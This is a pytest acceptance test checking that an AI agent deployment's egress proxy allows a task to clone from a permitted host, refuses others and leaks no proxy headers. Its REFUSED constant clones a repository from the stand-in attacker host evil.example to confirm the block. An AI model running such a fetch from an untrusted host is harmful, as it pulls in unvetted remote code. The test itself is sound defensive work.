"""Egress of a whole deployment: a project says what its tasks reach, a task uses it, its owner looks at what it did."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.acceptance.conftest import CREDENTIALS
from tests.acceptance.test_trouble import DONE, command
from tests.deployment import Deployment, events_of, watch
from tests.integration.egress import goods
from tests.standin.gitserver import GitServer
from tests.standin.model import ModelStandIn

pytestmark = [pytest.mark.docker, pytest.mark.slow]

# 127.0.0.1 is the sandbox's own, unless a program is told not to take it for that.
CLONE = "NO_PROXY= no_proxy= git clone -q {url} ../parcel && cat ../parcel/parcel.txt"
REFUSED = "git clone -q https://evil.example/r.git; echo over"


def test_a_task_reaches_what_its_project_allows_and_its_owner_sees_it(
    deploy: Callable[..., Deployment], git_host: GitServer, tmp_path: Path
) -> None:
    with GitServer(tmp_path / "public") as public:
        goods.bare_repository(tmp_path / "public/parcel")
        goods.bare_repository(git_host.root / "work")
        clone, address = CLONE.format(url=public.url("parcel")), public.base_url.removeprefix("http://")
        host, port = address.split(":")
        turns: list[Any] = [command(clone), command(REFUSED), DONE]
        with ModelStandIn({"clones": turns, "again": turns}, api_key="a-model-key") as model:
            deployment = deploy(model, FARHAND_EGRESS_ALLOW=address)
            with deployment.client() as client:
                url = git_host.url("work")
                project = client.create_project(
                    repo_url=url, git_username=CREDENTIALS[0], git_token=CREDENTIALS[1], egress=["git.example"]
                )
                assert project["egress"] == ["git.example"]
                task = client.submit(repo_url=url, prompt="do it [trajectory:clones]")
                events = events_of(watch(client, task["id"]))
                records = list(client.egress(task["id"]))
            prompts = [str(request.body["system"]) for request in model.requests]
    outputs = [event["data"]["output"] for event in events if event["type"] == "tool_result"]
    assert "the parcel is here" in outputs[0], deployment.logs()
    assert "403" in outputs[1]
    assert {(r["host"], r["port"], r["method"], r["decision"], r["reason"]) for r in records} == {
        (host, int(port), "HTTP", "allowed", "done"),
        ("evil.example", 443, "CONNECT", "refused", "host_not_allowed"),
    }
    assert all("git.example" in prompt for prompt in prompts)
    # The client's own words arrived, and none of ours.
    names = {name for request in public.requests for name in request.headers}
    assert not any(name.startswith(("farhand", "via", "forwarded", "x-forwarded", "proxy")) for name in names)
